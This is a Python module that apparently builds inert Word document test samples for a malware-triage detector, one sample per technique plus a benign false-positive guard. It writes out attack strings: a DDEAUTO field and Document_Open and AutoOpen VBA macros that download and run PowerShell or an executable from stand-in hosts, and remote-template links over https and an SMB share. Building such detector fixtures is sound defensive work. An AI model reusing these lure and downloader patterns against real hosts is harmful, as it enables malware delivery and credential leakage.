"""Inert Word OOXML samples: remote-template injection (https and UNC), a DDEAUTO field, macros in a
file named .docx, a macro-enabled template with an AutoOpen macro, and a benign letter.

`build_word_package(...)` writes a minimal but complete WordprocessingML package (content types,
package and document relationships, settings, core and app properties). Parts are STORED, not
deflated, so the bytes do not depend on the zlib build; entries carry a fixed date.
"""

from __future__ import annotations

import zipfile
from collections.abc import Mapping, Sequence
from xml.sax.saxutils import escape, quoteattr

from restytriage.cfb import build_cfb
from restytriage.samples import Sample
from restytriage.samples.cfb_writer import build_vba_project

FIXED_DATE = (2022, 4, 1, 9, 30, 0)
W3CDTF = "2022-04-01T09:30:00Z"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOTM_TYPE = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
_PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def build_package(parts: Mapping[str, bytes]) -> bytes:
    """A ZIP of the parts in the given order, stored, with fixed dates and attributes."""
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_STORED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE)
            info.create_system = 0  # zipfile otherwise records the host OS
            info.external_attr = 0
            archive.writestr(info, data)
    return buffer.getvalue()


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'


def complex_field(instruction: str, shown: str = "") -> str:
    """A field written the way Word writes it: begin, instrText run, separate, result, end."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {escape(instruction)} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{escape(shown)}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def build_word_package(
    body: Sequence[str],
    *,
    main_type: str = DOCX_TYPE,
    attached_template: str | None = None,
    vba_project: bytes | None = None,
    title: str = "Document",
    author: str = "Administrator",
    last_modified_by: str = "Administrator",
    company: str = "",
    template_name: str = "Normal.dotm",
) -> bytes:
    """A Word package whose document.xml holds `body` (paragraph XML, see `paragraph`).

    `attached_template` adds settings.xml's attachedTemplate with an external relationship to that
    target (a URL, UNC path or file:// path); `vba_project` adds word/vbaProject.bin.
    """
    overrides = {
        "/word/document.xml": main_type,
        "/word/settings.xml": "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml",
        "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        "/docProps/app.xml": "application/vnd.openxmlformats-officedocument.extended-properties+xml",
    }
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
    }
    if vba_project is not None:
        defaults["bin"] = "application/vnd.ms-office.vbaProject"
    content_types = (
        _XML_HEAD
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(
            f"<Default Extension={quoteattr(e)} ContentType={quoteattr(t)}/>" for e, t in defaults.items()
        )
        + "".join(
            f"<Override PartName={quoteattr(p)} ContentType={quoteattr(t)}/>" for p, t in overrides.items()
        )
        + "</Types>"
    )
    package_rels = _relationships(
        [
            ("rId1", f"{_OFFICE_RELS}/officeDocument", "word/document.xml", False),
            ("rId2", f"{_PACKAGE_RELS}/metadata/core-properties", "docProps/core.xml", False),
            ("rId3", f"{_OFFICE_RELS}/extended-properties", "docProps/app.xml", False),
        ]
    )
    document_rels = [("rId1", f"{_OFFICE_RELS}/settings", "settings.xml", False)]
    if vba_project is not None:
        document_rels.append(
            (
                "rId2",
                "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                "vbaProject.bin",
                False,
            )
        )
    document = (
        _XML_HEAD
        + f'<w:document xmlns:w="{_W}" xmlns:r="{_OFFICE_RELS}"><w:body>'
        + "".join(body)
        + '<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>'
    )
    template_element = '<w:attachedTemplate r:id="rId1"/>' if attached_template is not None else ""
    settings = (
        _XML_HEAD
        + f'<w:settings xmlns:w="{_W}" xmlns:r="{_OFFICE_RELS}">{template_element}'
        + '<w:defaultTabStop w:val="720"/><w:characterSpacingControl w:val="doNotCompress"/></w:settings>'
    )
    parts: dict[str, bytes] = {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": package_rels,
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": _relationships(document_rels),
        "word/settings.xml": settings.encode(),
    }
    if attached_template is not None:
        parts["word/_rels/settings.xml.rels"] = _relationships(
            [("rId1", f"{_OFFICE_RELS}/attachedTemplate", attached_template, True)]
        )
    if vba_project is not None:
        parts["word/vbaProject.bin"] = vba_project
    parts["docProps/core.xml"] = _core_properties(title, author, last_modified_by)
    parts["docProps/app.xml"] = _app_properties(template_name, company)
    return build_package(parts)


def _relationships(entries: Sequence[tuple[str, str, str, bool]]) -> bytes:
    items = "".join(
        f"<Relationship Id={quoteattr(rid)} Type={quoteattr(kind)} Target={quoteattr(target)}"
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in entries
    )
    return (_XML_HEAD + f'<Relationships xmlns="{_PACKAGE_RELS}">{items}</Relationships>').encode()


def _core_properties(title: str, author: str, last_modified_by: str) -> bytes:
    return (
        _XML_HEAD
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        f"<dc:title>{escape(title)}</dc:title><dc:creator>{escape(author)}</dc:creator>"
        f"<cp:lastModifiedBy>{escape(last_modified_by)}</cp:lastModifiedBy><cp:revision>2</cp:revision>"
        f'<dcterms:created xsi:type="dcterms:W3CDTF">{W3CDTF}</dcterms:created>'
        f'<dcterms:modified xsi:type="dcterms:W3CDTF">{W3CDTF}</dcterms:modified>'
        "</cp:coreProperties>"
    ).encode()


def _app_properties(template_name: str, company: str) -> bytes:
    return (
        _XML_HEAD
        + '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        f"<Template>{escape(template_name)}</Template><TotalTime>3</TotalTime><Pages>1</Pages>"
        f"<Application>Microsoft Office Word</Application><Company>{escape(company)}</Company>"
        "<AppVersion>16.0000</AppVersion></Properties>"
    ).encode()


# --- the samples -------------------------------------------------------------------------------

INVITATION = (
    paragraph("Ministry of Foreign Affairs"),
    paragraph("Invitation to the regional security seminar, 12 May 2022."),
    paragraph("Please confirm your attendance by replying to this message."),
)
REMOTE_TEMPLATE = "https://templates.restylink.invalid/t.dotm"
UNC_TEMPLATE = "\\\\203.0.113.7\\share\\t.dotm"
DDE_COMMAND = (
    'DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k powershell -w hidden -c '
    "IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/s.ps1')\""
)
# Inert macro text: the strings and structure analysts look for, against reserved addresses.
DOCUMENT_OPEN_MACRO = '''\
Private Sub Document_Open()
    Dim command As String
    command = "powershell -w hidden -c ""IEX(New-Object Net.WebClient).DownloadString('https://cdn.restylink.invalid/q.ps1')"""
    Shell command, vbHide
End Sub
'''
AUTOOPEN_TEMPLATE_MACRO = """\
Sub AutoOpen()
    Dim http As Object, stream As Object
    Set http = CreateObject("MSXML2.XMLHTTP")
    http.Open "GET", "https://cdn.restylink.invalid/update.bin", False
    http.Send
    Set stream = CreateObject("ADODB.Stream")
    stream.Open
    stream.Type = 1
    stream.Write http.responseBody
    stream.SaveToFile Environ("APPDATA") & "\\Microsoft\\update.exe", 2
    Shell Environ("APPDATA") & "\\Microsoft\\update.exe", vbHide
End Sub
"""


def remote_template_docx() -> bytes:
    return build_word_package(
        INVITATION, attached_template=REMOTE_TEMPLATE, title="Seminar invitation", author="MOFA"
    )


def unc_template_docx() -> bytes:
    return build_word_package(
        INVITATION, attached_template=UNC_TEMPLATE, title="Seminar invitation", author="MOFA"
    )


def dde_docx() -> bytes:
    body = (paragraph("Shipment notice"), complex_field(DDE_COMMAND, "!Unexpected End of Formula"))
    return build_word_package(body, title="Shipment notice", author="logistics")


def macros_named_docx() -> bytes:
    project = build_cfb(build_vba_project({"ThisDocument": DOCUMENT_OPEN_MACRO}))
    return build_word_package(
        (paragraph("Q1 figures are in the attached tables. Enable editing to view them."),),
        main_type=DOCM_TYPE,
        vba_project=project,
        title="Quarterly report",
        author="finance",
    )


def macro_template_dotm() -> bytes:
    project = build_cfb(
        build_vba_project({"NewMacros": AUTOOPEN_TEMPLATE_MACRO}, project_name="TemplateProject")
    )
    return build_word_package(
        (paragraph(""),), main_type=DOTM_TYPE, vba_project=project, title="", author="user"
    )


def benign_docx() -> bytes:
    body = (
        paragraph("Dear colleagues,"),
        paragraph("The office will be closed on Friday for maintenance of the heating system."),
        complex_field("PAGE", "1"),
    )
    return build_word_package(body, title="Office closure", author="Facilities", company="Example Corp")


SAMPLES = [
    Sample(
        name="ooxml_remote_template_https.docx",
        build=remote_template_docx,
        imitates="RestyLink-style Word lure whose settings.xml.rels attaches a macro template from a web server",
        verdict="malicious",
        techniques=("T1221",),
        findings=("ooxml.remote_template",),
        absent=("ooxml.unc_reference", "ooxml.vba_project", "ooxml.dde_auto"),
        facts=(("remote template", "templates.restylink.invalid"), ("author", "MOFA")),
    ),
    Sample(
        name="ooxml_remote_template_unc.docx",
        build=unc_template_docx,
        imitates="Word lure attaching its template from an SMB share (template injection that also leaks NTLM)",
        verdict="malicious",
        techniques=("T1221", "T1187"),
        findings=("ooxml.remote_template", "ooxml.unc_reference"),
        absent=("ooxml.vba_project",),
        facts=(("remote template", "203.0.113.7"),),
    ),
    Sample(
        name="ooxml_ddeauto_field.docx",
        build=dde_docx,
        imitates="2017-style DDEAUTO malspam document running PowerShell through cmd.exe",
        verdict="malicious",
        techniques=("T1559.002",),
        findings=("ooxml.dde_auto",),
        absent=("ooxml.remote_template", "ooxml.vba_project"),
        facts=(("DDE", "cmd.exe"),),
    ),
    Sample(
        name="ooxml_macros_named_docx.docx",
        build=macros_named_docx,
        imitates="Macro-enabled Word document (docm content, Document_Open macro) renamed to .docx",
        verdict="malicious",
        techniques=("T1036.008",),
        findings=("ooxml.macro_extension_mismatch", "ooxml.vba_project"),
        absent=("ooxml.remote_template",),
        facts=(("document", "macro-enabled document (.docm)"),),
    ),
    Sample(
        name="ooxml_autoopen_template.dotm",
        build=macro_template_dotm,
        imitates="Word macro template with an AutoOpen downloader, the kind dropped into Word's STARTUP folder",
        verdict="malicious",
        techniques=("T1137.001",),
        findings=("ooxml.macro_template", "ooxml.vba_project"),
        absent=("ooxml.macro_extension_mismatch", "ooxml.extension_mismatch"),
        facts=(("document", "Word macro-enabled template (.dotm)"),),
    ),
    Sample(
        name="ooxml_benign_letter.docx",
        build=benign_docx,
        imitates="An ordinary Word letter (false-positive guard)",
        verdict="clean",
        absent=(
            "ooxml.remote_template",
            "ooxml.unc_reference",
            "ooxml.dde_auto",
            "ooxml.dde",
            "ooxml.vba_project",
            "ooxml.macro_extension_mismatch",
            "ooxml.undeclared_part",
            "ooxml.disguised_part",
        ),
        facts=(("author", "Facilities"), ("company", "Example Corp")),
    ),
]
